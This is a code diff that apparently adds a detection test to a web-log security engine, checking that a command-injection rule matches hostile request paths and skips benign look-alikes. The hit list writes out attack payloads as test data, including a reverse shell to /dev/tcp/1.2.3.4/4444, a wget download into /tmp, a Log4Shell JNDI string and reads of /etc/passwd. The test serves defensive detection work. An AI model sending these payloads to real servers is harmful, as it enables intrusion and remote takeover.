@@ -703,6 +703,25 @@ def test_web_command_and_web_shells(tmp_path):
     assert [f["path"] for f in found["TRI-WEB-002"]] == ["/wp-content/themes/twentytwentyfour/footer.php"]
 
 
+WEB_COMMANDS = (
+    ["/x.php?cmd=cat /etc/passwd", "/a/footer.php?c=whoami", "/i.php?x=1;id;", "/x.jsp?cmd=id",
+     "/a.php?page=;wget http://1.2.3.4/x.sh -O /tmp/x", "/s.php?e=system('id')", "/?q=${jndi:ldap://x/a}",
+     "/a.php?u=|bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+     "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"],
+    ["/search?q=id card", "/list.php?c=id&sort=asc", "/blog?q=how to use whoami", "/p.php?run=1",
+     "/docs?q=curl https://api.example.com", "/a?command=list", "/shop?category=shell", "/index.php?id=12"])
+
+
+def test_web_command_payloads():
+    rule = RULES["TRI-WEB-001"]
+    hits, misses = WEB_COMMANDS
+    for target in hits:
+        assert engine.matches(rule.condition, {"kind": "request", "status": 200, "decoded": target}, NOW), target
+        assert not engine.matches(rule.condition, {"kind": "request", "status": 404, "decoded": target}, NOW), target
+    for target in misses:
+        assert not engine.matches(rule.condition, {"kind": "request", "status": 200, "decoded": target}, NOW), target
+
+
 def test_scanner_noise_and_busy_sites_are_quiet(tmp_path):
     """Every public server's day: probes for wp-login, .env, shells and ?cmd= answered 404; WordPress log-ins,
     XML-RPC and cron POSTs; a contact form many people load and some post to; a search for "id card"."""
